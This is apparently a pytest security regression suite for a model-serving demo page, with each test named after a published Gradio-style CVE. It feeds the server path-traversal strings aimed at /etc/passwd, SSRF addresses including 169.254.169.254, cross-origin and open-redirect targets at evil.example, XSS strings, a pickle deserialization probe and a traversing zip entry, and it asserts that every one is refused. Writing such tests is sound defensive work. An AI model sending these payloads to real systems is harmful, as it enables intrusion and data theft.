"""Published weaknesses of Gradio and of similar demos, October 2024 to November 2026: the page refuses each of them.

The numbers are those of the CVE list, or of an issue where there is no CVE.
"""

from __future__ import annotations

import http.client
import inspect
import io
import json
import pickle
import socket
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from serve_client import Served, data_url, request, shown

from inlay.recipes.serve.http_api import credentials
from inlay.recipes.serve.limits import Limits
from inlay.recipes.serve.request.media import MediaAccess

KEY = "a-key-of-sixteen-characters"
ASK = "what is shown ?"


def raw(page: Served, method: str, target: str, body: bytes = b"", **headers: str) -> tuple[int, dict[str, str], bytes]:
    """A request whose path is sent as it is written."""
    connection = http.client.HTTPConnection("127.0.0.1", page.port, timeout=60)
    try:
        connection.putrequest(method, target, skip_host="Host" in headers)
        sent = {"Content-Type": "application/json"} | {name.replace("_", "-"): text for name, text in headers.items()}
        for name, text in (sent | ({"Content-Length": str(len(body))} if body else {})).items():
            connection.putheader(name, text)
        connection.endheaders(body or None)
        response = connection.getresponse()
        return response.status, {name.lower(): text for name, text in response.getheaders()}, response.read()
    finally:
        connection.close()


@pytest.fixture
def listener() -> Any:
    """A server of an internal network; it must not be called."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.05)
        yield listening


def called(listening: socket.socket) -> bool:
    try:
        listening.accept()[0].close()
    except TimeoutError:
        return False
    return True


def test_cve_2024_47167_and_48052_no_address_in_a_request_is_fetched(page: Served, listener: Any) -> None:
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/secret.png"
    for kind in ("image_url", "audio_url", "video_url"):
        assert page.ask([{"type": kind, kind: {"url": url}}]).status == 400
    assert not called(listener)


def test_cve_2024_47167_with_urls_allowed_private_addresses_are_not_fetched(
    open_page: Callable[..., Served], listener: Any
) -> None:
    page, port = open_page(access=MediaAccess(urls=True)), listener.getsockname()[1]
    for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "2130706433", "169.254.169.254"):  # noqa: S104
        assert page.ask(shown(f"http://{host}:{port}/latest/meta-data")).status == 400
    assert not called(listener)


@pytest.mark.parametrize("route", ["/proxy=", "/gradio_api/proxy=", "/proxy/", "/api/proxy?url="])
def test_cve_2026_28416_there_is_no_proxy(page: Served, listener: Any, route: str) -> None:
    assert raw(page, "GET", f"{route}http://127.0.0.1:{listener.getsockname()[1]}/")[0] == 404
    assert not called(listener)


@pytest.mark.parametrize(
    "path",
    [
        "/file=/etc/passwd",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file/etc/passwd",
        "/file=C:/windows/win.ini",
        "/file=/windows/win.ini",
        "/FILE=/ETC/passwd",
        "/static/../../../etc/passwd",
        "/custom_component/x/..%2f..%2fetc%2fpasswd",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "/page/../routes.py",
        "/main.js/../routes.py",
        "/examples/0/../../../etc/passwd",
        "//etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/main.js::$DATA",
        "/main.js%00.css",
        "/.git/config",
        "/index.html",
        "/login.html",
    ],
)
def test_cve_2025_23042_and_2026_28414_no_part_of_an_address_becomes_a_path(page: Served, path: str) -> None:
    status, _, body = raw(page, "GET", path)
    assert status == 404
    assert b"root:" not in body


@pytest.mark.parametrize("source", ["/etc/passwd", "file:///etc/passwd", "../../etc/passwd", "data:/etc/passwd", "~/x"])
def test_cve_2024_51751_a_request_names_no_file(page: Served, source: str) -> None:
    answered = page.ask(shown(source))
    assert answered.status == 400
    assert "root:" not in answered.body.decode()


@pytest.mark.parametrize(
    "field", [{"path": "/etc/passwd"}, {"orig_name": "x"}, {"meta": {"_type": "gradio.FileData"}}, {"is_file": True}]
)
def test_cve_2024_47868_no_field_of_a_request_becomes_a_file(page: Served, field: dict[str, Any]) -> None:
    part = {"type": "image_url", "image_url": {"url": data_url(b"x")} | field}
    assert page.ask([part]).error["code"] == "unknown_parameter"
    assert page.ask(ASK, **field).status == 400


@pytest.mark.parametrize(
    "origin", ["https://evil.example", "null", "http://127.0.0.1", "http://127.0.0.1.evil.example"]
)
@pytest.mark.parametrize("method", ["OPTIONS", "POST"])
def test_cve_2024_47084_and_47165_and_2025_5320_pages_of_other_origins_are_refused(
    page: Served, origin: str, method: str
) -> None:
    asked = json.dumps(request(ASK)).encode()
    status, headers, _ = raw(page, method, "/v1/chat/completions", asked, Origin=origin)
    assert status == 403
    assert not [name for name in headers if name.startswith("access-control")]


def test_the_own_page_and_the_page_of_a_proxy_that_is_named_may_ask(open_page: Callable[..., Served]) -> None:
    page, asked = open_page(proxies=("demo.example.org",)), json.dumps(request(ASK)).encode()
    for origin, status in {
        f"http://127.0.0.1:{page.port}": 200,
        "https://demo.example.org": 200,
        "https://DEMO.example.org": 200,
        "https://demo.example.org:8443": 403,
        "https://demo.example.org.evil.example": 403,
        "ftp://demo.example.org": 403,
    }.items():
        assert raw(page, "POST", "/v1/chat/completions", asked, Origin=origin)[0] == status, origin


def test_cve_2024_47084_another_site_can_neither_read_nor_ask_with_the_cookie(open_page: Callable[..., Served]) -> None:
    page = open_page(key=KEY)
    form = f"key={KEY}".encode()
    _, headers, _ = raw(page, "POST", "/login", form, Content_Type="application/x-www-form-urlencoded")
    cookie = headers["set-cookie"].partition(";")[0]
    fetched = {"Cookie": cookie, "Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "no-cors"}
    assert raw(page, "GET", "/about", **fetched)[0] == 403
    asked = json.dumps(request(ASK)).encode()
    assert raw(page, "POST", "/v1/chat/completions", asked, Cookie=cookie, Content_Type="text/plain")[0] == 415
    assert raw(page, "POST", "/logout", Cookie=cookie, Origin="https://evil.example")[0] == 403
    assert raw(page, "GET", "/about", Cookie=cookie)[0] == 200


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "", "[::1", "1"])
def test_dns_rebinding_does_not_reach_the_page(page: Served, host: str) -> None:
    assert raw(page, "GET", "/about", Host=host)[0] in {400, 403}


def test_cve_2024_47869_keys_are_compared_in_constant_time() -> None:
    assert "compare_digest" in inspect.getsource(credentials.Credentials.is_key)


def test_cve_2026_27167_no_secret_of_the_server_is_built_in(open_page: Callable[..., Served]) -> None:
    page, form = open_page(key=KEY), f"key={KEY}".encode()
    kind = {"Content_Type": "application/x-www-form-urlencoded"}
    cookies = {raw(page, "POST", "/login", form, **kind)[1]["set-cookie"] for _ in range(3)}
    assert len(cookies) == 3
    for path in ("/", "/about", "/login"):
        assert KEY.encode() not in raw(page, "GET", path, Authorization=f"Bearer {KEY}")[2]


@pytest.mark.parametrize("target", ["https://evil.example", "//evil.example", "/\\evil.example"])
def test_cve_2026_28415_and_issue_13608_no_redirect_leads_elsewhere(
    open_page: Callable[..., Served], target: str
) -> None:
    page, coded = open_page(key=KEY), quote(target, safe="")
    form = f"key={KEY}&_target_url={coded}&next={coded}".encode()
    status, headers, _ = raw(
        page, "POST", f"/login?_target_url={coded}", form, Content_Type="application/x-www-form-urlencoded"
    )
    assert (status, headers["location"]) == (303, "/")
    for path in (f"/file={target}", f"/gradio_api/file={target}", f"/logout?_target_url={coded}"):
        status, headers, _ = raw(page, "GET", quote(path, safe="/:=?&%"), Authorization=f"Bearer {KEY}")
        assert (status in {404, 405}, "location" in headers) == (True, False)


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.example/?q=secret)"]
)
def test_cve_2024_47872_and_xss_texts_are_never_parsed_as_html_or_markdown(page: Served, text: str) -> None:
    headers = page.ask(text).headers
    assert headers["content-type"] == "application/json"
    names = ("main", "talk", "panel", "dom", "media", "api", "capture")
    scripts = "".join(page.call(f"/{name}.js").body.decode() for name in names)
    parsers = ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "DOMParser", "srcdoc")
    assert [word for word in parsers if word in scripts] == []


@pytest.mark.parametrize(
    "data",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<html><script>alert(1)</script></html>",
        b"%PDF-1.7",
        b"",
    ],
)
def test_cve_2024_47872_documents_are_not_pictures(page: Served, data: bytes) -> None:
    for claimed in ("image/png", "image/svg+xml", "text/html"):
        answered = page.ask(shown(data_url(data, claimed)))
        assert (answered.status, answered.error["code"]) == (400, "invalid_media")


class _Bomb:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


def test_pickles_and_archives_are_neither_loaded_nor_unpacked(page: Served, tmp_path: Path) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as held:
        held.writestr("../../evil.png", b"x")
    for data in (pickle.dumps(_Bomb(tmp_path / "here")), archive.getvalue(), b"\x93NUMPY\x01\x00"):
        for kind in ("image_url", "audio_url", "video_url"):
            assert page.ask([{"type": kind, kind: {"url": data_url(data, "application/octet-stream")}}]).status == 400
    assert not (tmp_path / "here").exists()


def test_cve_2024_8966_and_2025_0187_uploads_are_no_multipart_forms(page: Served) -> None:
    for path in ("/upload", "/gradio_api/upload"):
        assert raw(page, "POST", path, b"x", Content_Type="multipart/form-data; boundary=" + "-" * 4000)[0] == 404
    body, start = b"--x" + b"-" * 1_000_000, time.monotonic()
    assert raw(page, "POST", "/v1/chat/completions", body, Content_Type="multipart/form-data; boundary=x")[0] == 415
    assert time.monotonic() - start < 60  # it would be hours


def test_cve_2024_10624_numbers_and_texts_are_read_in_linear_time(page: Served) -> None:
    for text in ("now - " + "9" * 50_000 + "y", " " * 50_000 + "s", "1" * 5_000):
        assert page.ask(ASK, temperature=text).status == 400
        assert page.ask(ASK, model=text).status == 404


def test_cve_2024_47168_figures_need_the_key_like_everything_else(open_page: Callable[..., Served]) -> None:
    page = open_page(key=KEY)
    for path in ("/metrics", "/monitoring", "/monitoring/summary", "/config", "/info", "/openapi.json", "/docs"):
        assert raw(page, "GET", path)[0] == 401


@pytest.mark.parametrize("path", ["/config", "/info", "/monitoring", "/openapi.json", "/docs", "/gradio_api/info"])
def test_nothing_describes_the_server_to_strangers(page: Served, path: str) -> None:
    assert raw(page, "GET", path)[0] == 404


def test_cve_2024_47870_headers_of_a_request_do_not_change_the_page_of_others(page: Served) -> None:
    before = raw(page, "GET", "/")[2]
    forwarded = {f"X_Forwarded_{name}": "evil.example" for name in ("Host", "Proto", "Prefix")}
    assert raw(page, "GET", "/", **forwarded)[2] == before == raw(page, "GET", "/")[2]
    assert b"evil" not in before


def test_cve_2024_10648_and_2025_48889_nothing_is_written_for_a_request(
    page: Served, image_of: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    opened: list[Any] = []
    monkeypatch.setattr(tempfile, "mkstemp", lambda *given, **named: opened.append(given))
    wav = b"RIFF\x00\x00\x00\x00WAVE"
    sound = [{"type": "input_audio", "input_audio": {"data": data_url(wav).split(",")[1], "format": "../../evil"}}]
    assert page.ask(sound).status == 400
    assert page.ask(shown(image_of(1))).status == 200
    assert page.ask([{"type": "video_url", "video_url": {"url": data_url(b"GIF89a", "image/gif")}}]).status == 400
    assert list(tmp_path.iterdir()) == []
    assert opened == []


def test_an_error_names_neither_a_path_nor_a_reason_inside(
    page: Served, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail(*_: Any, **__: Any) -> None:
        raise RuntimeError("CUDA out of memory in /home/me/secret with hf_token")

    monkeypatch.setattr(type(page.app.state.chat.engine.models.model), "write", fail)
    answered = page.ask(ASK)
    assert answered.status == 500
    assert b"secret" not in answered.body
    assert "CUDA out of memory" in capsys.readouterr().err


def test_a_user_cannot_fill_the_queue_of_the_others(open_page: Callable[..., Served]) -> None:
    page = open_page(limits=Limits(request_bytes=2_000, most_tokens=16, new_tokens=16, choices=1, steps=4, beams=2))
    assert page.ask("x" * 3_000).status == 413
    for field in ({"max_tokens": 17}, {"n": 2}, {"num_beams": 3}, {"temperature": float("inf")}, {"seed": 2**70}):
        assert page.ask(ASK, **field).status == 400
